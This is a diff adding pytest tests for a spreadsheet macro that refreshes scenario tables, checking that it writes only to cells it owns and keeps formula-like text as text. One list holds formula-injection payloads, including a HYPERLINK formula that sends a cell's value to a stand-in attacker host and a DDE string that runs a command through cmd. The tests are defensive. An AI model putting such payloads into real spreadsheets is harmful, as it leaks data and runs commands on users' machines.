@@ -568,3 +568,55 @@ def test_clear_scenarios():
     assert set(book.sheets["Scenarios"].cells) == {(2, 2)}
     assert book.names["out_scenarios"].refers_to == "='Scenarios'!$B$5"
     assert book.app.calculation == "automatic" and book.app.screen_updating is True
+
+
+class TestWritesOnlyWhatItOwns:
+    EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]
+
+    def test_text_that_looks_like_a_formula_stays_text(self):
+        rows = lineup_rows()
+        j = rows[0].index("model")
+        planned = [i for i, r in enumerate(rows) if i and r[rows[0].index("status")] == "planned"]
+        for i, name in zip(planned, self.EVIL):
+            rows[i][j] = "'" + name  # typed as text in Excel
+        book = make_book(scenarios=["base"], lineup=rows)
+        assert all(not s.formulas for s in book.sheets)
+        message = macros.refresh_scenarios(book)
+        assert message.startswith("Refreshed"), message
+        assert all(not s.formulas for s in book.sheets)  # Excel entered no formula
+        texts = {v for s in book.sheets for v in s.cells.values() if isinstance(v, str)}
+        assert {n.strip() for n in self.EVIL[:len(planned)]} <= {t.strip() for t in texts}
+
+    @pytest.mark.parametrize("name, ref, fragment", [
+        ("out_scenarios", "$A$1:$B$3", "defined name out_scenarios: on sheet Inputs, not on Scenarios"),
+        ("out_risk", "$A$6", "defined name out_risk: on sheet Inputs, not on Risk"),
+        ("out_status", "$C$3", "defined name out_status: on sheet Inputs, not on Scenarios"),
+    ])
+    def test_owned_name_on_another_sheet_is_refused(self, name, ref, fragment):
+        book = make_book()
+        book.define(name, "Inputs", ref)
+        before = {s.name: dict(s.cells) for s in book.sheets}
+        message = macros.refresh_scenarios(book)
+        assert message.startswith("Refresh stopped, nothing changed: " + fragment)
+        # nothing written anywhere but the status cell on Scenarios (not even the status
+        # line, when out_status itself points at Inputs)
+        assert {s.name: dict(s.cells) for s in book.sheets if s.name != "Scenarios"} == {k: v for k, v in before.items() if k != "Scenarios"}
+        assert not [e for e in book.writes() if e[1] != "Scenarios"]
+
+    def test_owned_area_overlapping_the_status_cell_is_refused(self):
+        book = make_book()
+        book.define("out_status", "Scenarios", "$C$8")
+        message = macros.refresh_scenarios(book)
+        assert "overlaps out_status" in message and not [e for e in book.log if e[0] == "name"]
+
+    def test_growing_over_notes_is_refused_and_names_the_cells(self):
+        book = make_book(scenarios=["base"])
+        macros.refresh_scenarios(book)
+        rows = book.names["out_scenarios"].refers_to_range.rows
+        book.sheets["Scenarios"].cells[(5 + rows + 2, 2)] = "my notes"  # two rows below the area
+        book.names["in_end_year"].refers_to_range.value = 2035
+        book.log.clear()
+        message = macros.refresh_scenarios(book)
+        assert f"1 non-empty cell it did not write: Scenarios!B{5 + rows + 2}" in message
+        assert book.sheets["Scenarios"].cells[(5 + rows + 2, 2)] == "my notes"
+        assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]
